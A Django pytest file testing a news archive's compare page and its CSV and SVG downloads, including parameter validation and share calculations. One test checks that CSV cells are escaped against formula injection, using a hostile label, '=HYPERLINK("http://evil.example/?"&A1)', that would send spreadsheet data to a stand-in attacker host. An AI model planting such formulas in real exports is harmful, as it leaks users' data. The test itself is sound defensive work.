"""The compare page and its downloads, through Django's test client."""

import csv
import datetime as dt
import io
import re
from urllib.parse import quote

import pytest

from search.documents import articles_for_index
from search.service import get_backend
from tests.factories import make_article, make_outlet, make_tag

pytestmark = pytest.mark.django_db

COFFEE = "Coffee growers in Brazil asked the ICO for export quotas, said a delegate, “quoted”."
OIL = "Oil prices rose as OPEC ministers met in Vienna to talk about crude output."


@pytest.fixture
def archive(db):
    coffee = make_tag("coffee", kind="topic")
    for n, month in enumerate((3, 3, 4, 5)):
        day = dt.date(1987, month, 2 + n)
        make_article(f"Coffee {n}", f"{COFFEE} {n}", published=day).tags.add(coffee)
        make_article(f"Oil {n}", f"{OIL} {n}", published=day)
    get_backend().index(articles_for_index())


def rows(response, *, bom=False):
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff") == bom
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


def test_page_shows_chart_table_and_panels(client, archive):
    response = client.get("/compare/?s1.q=coffee&s1.label=Beans&s2.tag=topic:coffee&bin=month")
    assert response.status_code == 200
    html = response.content.decode()
    assert "<svg" in html and "Beans" in html and "topic:coffee" in html
    assert '<th scope="row">1987-03</th>' in html
    assert "Terms that set it apart" in html and ">coffee<" in html
    assert "#0072b2" in html and "#d55e00" in html  # the palette's first two colours


def test_series_csv_sums_to_totals_and_quotes_labels(client, archive):
    url = '/compare/series.csv?s1.q=coffee&s1.label=Beans, "roasted"&s2.q=oil&bin=month'
    table = rows(client.get(url))
    assert table[0] == [
        "period",
        "date_from",
        "date_to",
        "archive_articles",
        'Beans, "roasted" count',
        'Beans, "roasted" share',
        "oil count",
        "oil share",
    ]
    assert [r[0] for r in table[1:]] == ["1987-03", "1987-04", "1987-05"]
    assert sum(int(r[4]) for r in table[1:]) == 4
    assert [r[3] for r in table[1:]] == ["4", "2", "2"]
    assert [float(r[5]) for r in table[1:]] == [0.5, 0.5, 0.5]


def test_csv_with_a_byte_order_mark_for_spreadsheets(client, archive):
    response = client.get("/compare/terms.csv?s1.tag=topic:coffee&bom=1")
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    table = rows(response, bom=True)
    assert table[0][:3] == ["search", "word", "score_g2"]
    assert "coffee" in {r[1] for r in table[1:]}
    facets = rows(client.get("/compare/facets.csv?s1.q=coffee"))
    assert ["coffee", "topic", "topic:coffee", "coffee", "4", "1.0"] in facets


def test_chart_downloads_as_svg(client, archive):
    response = client.get("/compare/chart.svg?s1.q=coffee&s2.q=oil&measure=share")
    assert response["Content-Type"].startswith("image/svg+xml")
    svg = response.content.decode()
    assert svg.startswith("<svg") and 'xmlns="http://www.w3.org/2000/svg"' in svg
    assert svg.count("<polyline") == 2


@pytest.mark.parametrize(
    "query, named",
    [
        ("s1.q=a&s2.q=b&s3.q=c&s4.q=d&s5.q=e&s6.q=f", "at most 5"),
        ("s1.q=coffee&s1.color=red", "s1.color"),
        ("s1.q=coffee&s1.from=1987-02-30", "s1.from"),
        ("s1.q=coffee&s1.colour=%23ffffff", "s1.colour"),
        ("s1.q=coffee&bin=decade", "bin"),
        ("s1.q=coffee&measure=pie", "measure"),
        ("s1.tag=nokind:coffee", "s1.tag"),
    ],
)
def test_bad_parameters_are_a_400_page_naming_them(client, archive, query, named):
    response = client.get(f"/compare/?{query}")
    assert response.status_code == 400
    assert named in response.content.decode()
    assert client.get(f"/compare/series.csv?{query}").status_code == 400


def test_unknown_download_is_a_404_and_bad_bom_a_400(client, archive):
    assert client.get("/compare/pie.csv?s1.q=coffee").status_code == 404
    assert client.get("/compare/series.csv?s1.q=coffee&bom=yes").status_code == 400


def test_removing_a_search_renumbers_the_rest(client, archive):
    html = client.get("/compare/?s1.q=coffee&s2.q=oil&s3.q=prices").content.decode()
    assert "/compare/?s1.q=oil&amp;s1.label=oil" in html  # search 1 removed
    assert 'name="s4.q"' in html  # the form's new search


def test_empty_page_invites_a_search_and_the_search_page_links_here(client, archive):
    assert "Add a search" in client.get("/compare/").content.decode()
    html = client.get("/?q=coffee&tag=topic:coffee&sort=oldest").content.decode()
    assert "/compare/?s1.q=coffee&amp;s1.tag=topic%3Acoffee" in html


def test_an_entity_page_carries_its_own_filter_to_the_compare_page(client, archive):
    html = client.get("/tags/topic/coffee/?q=brazil").content.decode()
    assert "/compare/?s1.q=brazil&amp;s1.tag=topic%3Acoffee" in html


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_quoted(client, archive):
    # A shared link's label and an outlet's name are other people's text: a spreadsheet
    # must show them, not run them (=HYPERLINK(…) sends data away; +, -, @ start formulas too).
    make_article("=1+1", f"{COFFEE} formula", outlet=make_outlet("=HYPERLINK(1)"))
    get_backend().index(articles_for_index())
    label = '=HYPERLINK("http://evil.example/?"&A1)'
    series = rows(client.get(f"/compare/series.csv?s1.q=coffee&s1.label={quote(label)}&bin=month"))
    assert series[0][4:] == [f"'{label} count", f"'{label} share"]
    facets = rows(client.get("/compare/facets.csv?s1.q=coffee&s1.label=@SUM(A1)"))
    outlets = [r for r in facets[1:] if r[1] == "outlet"]
    assert ["'@SUM(A1)", "outlet", "hyperlink1", "'=HYPERLINK(1)"] in [r[:4] for r in outlets]
    assert all(r[0] == "'@SUM(A1)" for r in facets[1:])
    assert all(not cell.startswith(("=", "+", "-", "@")) for r in facets for cell in r)
    assert facets[1][4].isdigit()  # numbers stay numbers


def test_a_download_without_a_search_is_a_400_saying_so(client, archive):
    for url in ("/compare/series.csv", "/compare/chart.svg?bin=month"):
        response = client.get(url)
        assert response.status_code == 400
        assert "Add a search to compare first" in response.content.decode()


def test_a_search_filtered_by_outlet_shows_no_share_over_the_whole(client, db):
    """Counts of a group the search filters by are each value's count had it been chosen
    instead: as shares of this search's total they ran past 100 %."""
    wire, daily = make_outlet("Wire"), make_outlet("Daily")
    make_article("Coffee at the wire", COFFEE, outlet=wire, published=dt.date(1987, 3, 2))
    for n in range(4):
        make_article(f"Coffee {n}", f"{COFFEE} {n}", outlet=daily, published=dt.date(1987, 3, 3))
    get_backend().index(articles_for_index())

    html = client.get(f"/compare/?s1.q=coffee&s1.outlet={wire.slug}").content.decode()

    assert "Top outlets" in html
    assert 'Daily <span class="hint">4</span>' in html  # a count, and no share of 1 hit
    assert 'Wire <span class="hint">1 · chosen</span>' in html
    assert not [share for share in re.findall(r"· (\d+)%", html) if int(share) > 100]


def test_a_search_filtered_by_an_outlet_it_does_not_list_shows_no_shares(client, archive):
    make_article("Coffee at the wire", COFFEE, outlet=make_outlet("Wire"))
    get_backend().index(articles_for_index())

    html = client.get("/compare/?s1.q=coffee&s1.outlet=no-such-outlet").content.decode()

    assert "Top outlets" in html
    assert 'Wire <span class="hint">1</span>' in html  # its count, not "1 · 0%"
